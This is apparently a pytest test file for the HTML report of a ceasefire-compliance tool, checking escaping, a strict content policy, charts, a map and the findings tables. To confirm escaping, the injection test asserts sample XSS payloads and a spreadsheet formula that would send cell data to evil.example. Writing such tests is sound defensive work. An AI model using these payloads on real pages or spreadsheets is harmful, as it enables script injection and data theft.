"""The HTML report: self-contained, every input value escaped, and saying what the findings say.

The page is parsed with the standard library's HTML parser, so the checks are about elements and
text as a browser would see them, not about substrings of the source.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from report_helpers import INJECTED

from compliance.reports import html
from compliance.reports.model import Report
from compliance.reports.views import place


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    text: list[str] = field(default_factory=list)
    children: list[Node] = field(default_factory=list)

    def all(self, tag: str, **attrs: str) -> list[Node]:
        out = [self] if self.tag == tag and all(self.attrs.get(k) == v for k, v in attrs.items()) else []
        for c in self.children:
            out += c.all(tag, **attrs)
        return out

    def content(self) -> str:
        return "".join(self.text[:1] + [c.content() + t for c, t in zip(self.children, self.text[1:], strict=False)])


class Tree(HTMLParser):
    VOID = frozenset({"meta", "br", "input", "img", "link", "hr", "area", "base", "col", "embed", "source", "wbr"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#root", {}, [""])
        self.stack = [self.root]
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        self.tags.append((tag, attrs))
        node = Node(tag, attrs, [""])
        self.stack[-1].children.append(node)
        self.stack[-1].text.append("")
        if tag not in self.VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.stack.pop()

    def handle_endtag(self, tag):
        for i in range(len(self.stack) - 1, 0, -1):
            if self.stack[i].tag == tag:
                del self.stack[i:]
                return

    def handle_data(self, data):
        self.stack[-1].text[-1] += data


def parse(text: str) -> Tree:
    tree = Tree()
    tree.feed(text)
    tree.close()
    return tree


@pytest.fixture(scope="module")
def small_page(small: Report) -> tuple[str, Tree]:
    text = html.render(small)
    return text, parse(text)


@pytest.fixture(scope="module")
def shipped_page(shipped: Report) -> tuple[str, Tree]:
    text = html.render(shipped)
    return text, parse(text)


def _self_contained(text: str, tree: Tree) -> None:
    scripts = [a for t, a in tree.tags if t == "script"]
    assert len(scripts) == 1 and not scripts[0], "one inline script, with no src"
    for tag, attrs in tree.tags:
        assert tag not in ("img", "iframe", "object", "embed", "link", "base", "form", "audio", "video"), tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "style", "xlink:href"), (tag, name)
            if name == "href":
                assert value.startswith(("#", "https://", "http://")), value
            assert "url(" not in value
    assert "@import" not in text and "url(" not in text.split("</style>")[0]
    csp = [a["content"] for t, a in tree.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and csp[0].startswith("default-src 'none'")
    assert tree.root.all("script")[0].content() == html.SCRIPT


def test_html_is_self_contained(small_page, shipped_page):
    for text, tree in (small_page, shipped_page):
        _self_contained(text, tree)


def test_html_injection_is_inert(small_page):
    text, tree = small_page
    assert "<script>window" not in text and "<img" not in text and "javascript:" not in "".join(
        a.get("href", "") for _, a in tree.tags)
    page_text = tree.root.content()
    # shown to the reader exactly as written in the event log, as text
    assert "<script>window.__pwned=1</script>" in page_text
    assert '<img src=x onerror="window.__pwned=2">' in page_text
    assert '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")' in page_text
    assert "Bad link javascript:alert(1)" in page_text  # a non-http address stays text
    links = [a["href"] for t, a in tree.tags if t == "a" and not a["href"].startswith("#")]
    assert "https://example.org/report?a=1&b=" in links and "https://example.org/pact#art1" in links
    assert all(a.get("rel") == "noopener noreferrer" for t, a in tree.tags if t == "a" and a["href"][0] != "#")


def test_html_summary_tables(small_page):
    _, tree = small_page
    summary = tree.root.all("section", id="summary")[0]
    matrix, clauses = summary.all("table")
    rows = [[c.content() for c in r.all("td")] for r in matrix.all("tbody")[0].all("tr")]
    assert rows == [["pact-2020", "1 / · / ·", "· / 1 / 1", "· / 1 / 1", "1 / · / ·"]]
    assert [h.content() for h in matrix.all("th")] == ["agreement", "syria-gov", "russia", "turkey",
                                                        "armed-opposition"]
    rows = [[c.content() for c in r.all("td")] for r in clauses.all("tbody")[0].all("tr")]
    assert [(r[0], r[3]) for r in rows] == [("pact-2020/no-shelling", "4"), ("pact-2020/joint-patrols", "2")]


def _chart_counts(tree: Tree) -> dict[tuple[str, str], int]:
    out = {}
    for rect in tree.root.all("svg", **{"class": "chart"})[0].all("rect"):
        titles = rect.all("title")
        if titles:
            month, rest = titles[0].content().split(": ")
            party, n = rest.rsplit(" ", 1)
            out[(month, party)] = int(n)
    return out


def test_html_chart(small_page, shipped_page, shipped: Report):
    assert _chart_counts(small_page[1]) == {("2020-02", "syria-gov"): 1, ("2020-02", "russia"): 1,
                                            ("2020-02", "turkey"): 1, ("2020-02", "armed-opposition"): 1,
                                            ("2020-03", "russia"): 1, ("2020-03", "turkey"): 1}
    counts = _chart_counts(shipped_page[1])
    assert sum(counts.values()) == len(shipped.findings)
    by = shipped.findings.assign(month=shipped.findings["date"].str[:7]).groupby(["month", "party"]).size()
    assert counts == {k: int(v) for k, v in by.items()}


def _map_titles(tree: Tree) -> tuple[list[Node], list[str]]:
    svg = tree.root.all("svg", **{"class": "map"})[0]
    shapes = [p for p in svg.all("path") if p.all("title")]
    dots = [c.all("title")[0].content() for c in svg.all("circle") if c.all("title")]
    return shapes, dots


def test_html_map(small_page, small: Report):
    _, tree = small_page
    shapes, dots = _map_titles(tree)
    by_id = {re.search(r"\[([a-z0-9.-]+)\]", p.all("title")[0].content()).group(1): p for p in shapes}
    assert set(by_id) == {"pact-zone", "pact-road", "pact-post"}
    assert by_id["pact-zone"].attrs.get("stroke-dasharray")  # approximate: dashed
    svg = tree.root.all("svg", **{"class": "map"})[0]
    assert [c for c in svg.all("circle") if c.attrs.get("stroke-dasharray") and not c.all("title")], \
        "an approximate post gets a dashed circle of its precision"
    assert "stroke-dasharray" not in by_id["pact-road"].attrs  # exact geometry is drawn solid
    zone_title = by_id["pact-zone"].all("title")[0].content()
    assert zone_title.startswith('Pact <zone> & "surroundings" [pact-zone] — area, approximate (±1 km)')
    assert len(dots) == 2  # the two located events with findings; deadline findings have no place
    assert dots[0].startswith(f"{INJECTED}, 2020-02-01, ") or dots[1].startswith(f"{INJECTED}, 2020-02-01, ")
    assert any("pact-2020/no-shelling: russia as guarantor (confirmed, breach)" in d for d in dots)
    legend = tree.root.all("section", id="map")[0].all("ul")[0].content()
    assert "approximate (±1 km)" in legend and "Pact road (pact-road, line)" in legend


def test_html_map_shipped(shipped_page, shipped: Report):
    _, tree = shipped_page
    shapes, dots = _map_titles(tree)
    titles = " ".join(p.all("title")[0].content() for p in shapes)
    for zone in shipped.inputs.terms.zones.zones.values():
        assert f"[{zone.id}]" in titles
    located = shipped.findings.dropna(subset=["lat"])["event_id"].unique()
    assert len(dots) == len(located)
    for event in located:
        assert any(d.startswith(f"{event}, ") for d in dots), event


def test_html_findings(small_page, small: Report):
    _, tree = small_page
    section = tree.root.all("section", id="findings")[0]
    rows = [[c.content() for c in r.all("td")] for r in section.all("table", id="findings-table")[0].all("tr")[1:]]
    records = small.finding_records()
    assert [(r[2], r[3], r[4], r[5], r[6], r[7], r[8]) for r in rows] == [
        (f["event_id"] or "(deadline)", place(f), f["clause"], f["party"], f["role"], f["confidence"], f["status"])
        for f in records]
    items = {li.attrs["id"]: li.content() for li in section.all("li") if li.attrs.get("id", "").startswith("f-")}
    assert len(items) == len(records)
    for i, f in enumerate(records, 1):
        assert f"Why: {f['explanation']}" in items[f"f-{i}"]
    assert "Clause: The parties stop shelling and air strikes inside the pact zone." in items["f-1"]
    events = [a for a in section.all("article") if "event" in a.attrs.get("class", "")]
    assert len(events) == 3  # two events and one missed deadline
    first = events[0].content()
    assert "Sources<script>window.__pwned=3</script> https://example.org/report?a=1&b=<2>" in first
    assert "Notes=HYPERLINK(" in first
    cited = [a for a in section.all("article") if a.attrs.get("id", "").startswith("clause-")]
    assert "Pact text https://example.org/pact#art1" in " ".join(a.content() for a in cited)


def test_html_findings_shipped(shipped_page, shipped: Report):
    _, tree = shipped_page
    section = tree.root.all("section", id="findings")[0]
    assert len(section.all("table", id="findings-table")[0].all("tr")) == len(shipped.findings) + 1
    items = [li for li in section.all("li") if li.attrs.get("id", "").startswith("f-")]
    assert len(items) == len(shipped.findings)
    assert all("Clause: " in li.content() and "Why: " in li.content() for li in items)
    inputs = tree.root.all("section", id="inputs")[0].content()
    for entry in shipped.inputs.manifest():
        assert entry["path"] in inputs and entry["sha256"] in inputs
